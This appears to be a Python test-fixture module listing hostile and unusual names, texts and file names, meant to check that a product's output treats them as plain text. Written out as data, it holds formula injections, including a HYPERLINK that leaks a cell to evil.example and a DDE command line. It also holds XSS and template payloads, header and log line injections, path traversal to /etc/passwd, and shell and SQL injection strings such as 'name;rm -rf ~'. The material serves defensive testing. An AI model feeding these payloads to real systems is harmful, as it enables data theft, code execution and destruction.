"""Names and texts as somebody with bad intentions, or only an unusual name, would type them.

Whatever leaves the product with such a name in it (a header, a mail, a CSV, a workbook, a calendar, a
PDF, a log line) says it as text and nothing more. Use ``NAMES`` for what a person is called, ``TEXTS`` for
longer fields, ``FILE_NAMES`` for what a browser calls a file, ``RAW`` for what must be refused at the door.
"""

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
)
"""What a spreadsheet would compute."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "%(num)s %s %d",
    "{0.__class__}",
    "&lt;b&gt;&amp;",
    "<!--",
    "]]>",
)
"""What a browser or a template would carry out."""

LINES = (
    "Ada\r\nBcc: all@evil.example",
    "Ada\nX-Injected: yes",
    "Ada\r\n\r\n<html>",
    "Ada\rLovelace",
    "END:VEVENT\r\nEND:VCALENDAR",
    "Ada\x85Lovelace",
    "Ada\u2028Lovelace",
    '{"event": "forged"}\n{"event": "sign_in"}',
    "\x1b[2J\x1b[31mred",
)
"""What would begin a new line of a header, a calendar or a log."""

SCRIPTS = (
    "\u202eadA\u202c",
    "\u05e2\u05d3\u05d4",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "Zo\u00eb N\u00fa\u00f1ez-O\u2019Brien",
    "\u0141ukasz \u017b\u00f3\u0142\u0107",
    "\u738b\u5c0f\u660e",
    "\U0001f469\U0001f3fd\u200d\u2695\ufe0f",
    "Z\u0351\u036b\u0343a\u0321\u034al\u0356\u0326go",
    "\u200b\ufeff\u00ad",
    "\ufdfd\ufdfd",
)
"""Right to left, joined, stacked and unseen signs."""

PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "file:///etc/passwd",
    "CON",
    "name;rm -rf ~",
    "$(id)",
    "`id`",
    "Robert'); DROP TABLE person;--",
    "100%",
    "_",
)
"""What a file system, a shell or a database would follow."""

LONG = ("A" * 5_000, "\u00e9" * 2_000, "\U0001f469" * 500)

NAMES = (*FORMULAS, *MARKUP, *LINES, *SCRIPTS, *PATHS)
TEXTS = (*NAMES, *LONG)
FILE_NAMES = (
    *(f"{name}.pdf" for name in (*PATHS, *LINES, *SCRIPTS)),
    'a"; filename="b.html',
    "photo.jpg\x00.html",
    "photo.html",
    ".htaccess",
    "a" * 300 + ".jpg",
    "",
)
RAW = ("a\x00b", "\ud800", "\udfff")
"""What is no text at all: NUL, and halves of signs that UTF-8 cannot hold."""
